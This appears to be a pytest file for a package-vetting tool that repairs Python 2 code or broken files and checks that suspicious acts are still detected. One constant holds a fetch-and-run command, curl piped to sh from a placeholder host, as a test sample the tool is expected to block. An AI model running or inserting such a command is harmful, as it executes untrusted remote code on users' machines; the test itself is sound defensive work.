"""Python that does not parse is repaired where it is only old, and read piece by piece where it is broken."""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatekeeper.evidence._mending import OLD, PIECES, as_python_3, mended
from gatekeeper.model import Ruling
from tests.support.judging import explained, importing, installing

if TYPE_CHECKING:
    from pathlib import Path

ACT = "import os\nos.system('curl -s http://files.example/a | sh')\n"
OLD_CODE = {
    "print": "print 'a', 1\n",
    "print to a file": "import sys\nprint >>sys.stderr, 'a'\n",
    "a bare print": "if 1:\n    print\n",
    "except with a comma": "try:\n    pass\nexcept ValueError, error:\n    pass\n",
    "raise with a comma": "def f():\n    raise ValueError, 'a'\n",
    "exec": "exec 'a = 1' in {}\n",
    "an octal number": "a = 0755\n",
    "a long number": "a = 10L + 0xffL\n",
    "backticks": "a = `1`\n",
    "unequal": "a = 1 <> 2\n",
    "ur": "a = ur'x'\n",
    "tabs among blanks": "if 1:\n        a = 1\n\tb = 2\n",
}


@pytest.mark.parametrize("way", OLD_CODE)
def test_python_2_is_spelled_as_python_3(way: str) -> None:
    found = mended(OLD_CODE[way].encode())
    assert found is not None
    assert found[1] == OLD, as_python_3(OLD_CODE[way])


@pytest.mark.parametrize("way", OLD_CODE)
def test_what_an_old_file_does_is_seen(tmp_path: Path, way: str) -> None:
    verdict = importing(tmp_path, OLD_CODE[way] + ACT)
    assert verdict.ruling is Ruling.BLOCK, explained(verdict)


def test_of_a_broken_file_the_rest_is_kept_at_its_lines() -> None:
    found = mended(b"a = 1\nb = = 2\ndef f(:\n    pass\nc = 3\n")
    assert found is not None
    tree, how = found
    assert how == PIECES
    kept = {node.lineno: ast.unparse(node) for node in tree.body}
    assert kept[1] == "a = 1"
    assert kept[5] == "c = 3"


def test_a_broken_file_is_said_to_be_one(tmp_path: Path) -> None:
    verdict = installing(tmp_path, "import os\nx = = 1\nos.system('true')\n")
    assert verdict.ruling is Ruling.ASK, explained(verdict)


def test_a_broken_file_cannot_run_so_its_acts_only_wait(tmp_path: Path) -> None:
    verdict = importing(tmp_path, f"x = = 1\n{ACT}")
    assert all(
        one.when is None or one.when.word != "import" for one in verdict.findings if one.check != "not-fully-read"
    )


@given(st.binary(max_size=300))
def test_nothing_in_a_file_stops_the_repair(content: bytes) -> None:
    mended(content)
